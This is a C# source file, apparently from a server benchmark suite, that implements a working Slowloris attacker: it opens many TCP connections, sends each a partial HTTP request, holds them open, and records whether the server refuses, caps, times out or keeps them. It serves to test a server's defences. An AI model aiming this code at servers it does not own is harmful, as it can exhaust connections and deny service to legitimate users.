using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Cairn.Bench.Slowloris;

/// <summary>
/// The attacker: N TCP connections from one address, each sending the start of a request (the request line and part
/// of a header, no end of headers) and then nothing, held open. It counts what the server does with them: refused at
/// connect, closed at once (a connection cap), closed later (a header timeout), or still held.
/// </summary>
internal sealed class HalfOpenCrowd(SlowlorisOptions options) : IDisposable
{
    private readonly List<Socket> _sockets = [];

    public int Requested => options.Connections;

    public int Connected { get; private set; }

    public int Failed { get; private set; }

    public string? FirstError { get; private set; }

    public TimeSpan OpenedIn { get; private set; }

    /// <summary>Opens the connections (64 at a time) and sends each its partial request.</summary>
    public async Task OpenAsync(CancellationToken cancellationToken)
    {
        var started = Stopwatch.GetTimestamp();
        var partial = Encoding.ASCII.GetBytes($"GET /v1/kv/slowloris HTTP/1.1\r\nHost: {options.Url.Authority}\r\nUser-Agent: slowloris\r\nX-Slow: ");
        var sockets = new Socket?[options.Connections];
        var failed = 0;
        string? firstError = null;
        await Parallel.ForAsync(0, options.Connections, new ParallelOptions { MaxDegreeOfParallelism = 64, CancellationToken = cancellationToken }, async (i, ct) =>
        {
            var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
            try
            {
                socket.Bind(new IPEndPoint(options.AttackerAddress, 0));
                using var timeout = CancellationTokenSource.CreateLinkedTokenSource(ct);
                timeout.CancelAfter(TimeSpan.FromSeconds(10));
                await socket.ConnectAsync(options.Url.Host, options.Url.Port, timeout.Token).ConfigureAwait(false);
                await socket.SendAsync(partial, SocketFlags.None, timeout.Token).ConfigureAwait(false);
                sockets[i] = socket;
            }
            catch (Exception e) when (e is SocketException or OperationCanceledException)
            {
                socket.Dispose();
                Interlocked.Increment(ref failed);
                Interlocked.CompareExchange(ref firstError, e.Message, null);
            }
        }).ConfigureAwait(false);
        _sockets.AddRange(sockets.OfType<Socket>());
        Connected = _sockets.Count;
        Failed = failed;
        FirstError = firstError;
        OpenedIn = Stopwatch.GetElapsedTime(started);
    }

    /// <summary>How many of the connections the server has not closed (nor reset). A server that gives up on a
    /// connection may answer first (Kestrel sends <c>408</c> at its header timeout): what it sent is read past, so that
    /// the end of the stream behind it shows.</summary>
    public int StillOpen()
    {
        var open = 0;
        var buffer = new byte[4096];
        foreach (var socket in _sockets)
        {
            try
            {
                while (socket.Poll(0, SelectMode.SelectRead) && socket.Available > 0)
                {
                    _ = socket.Receive(buffer);
                }

                // Readable with nothing to read: the server closed it (end of stream) or reset it.
                if (!(socket.Poll(0, SelectMode.SelectRead) && socket.Available == 0))
                {
                    open++;
                }
            }
            catch (SocketException)
            {
            }
        }

        return open;
    }

    public void Dispose()
    {
        foreach (var socket in _sockets)
        {
            socket.Dispose();
        }

        _sockets.Clear();
    }
}
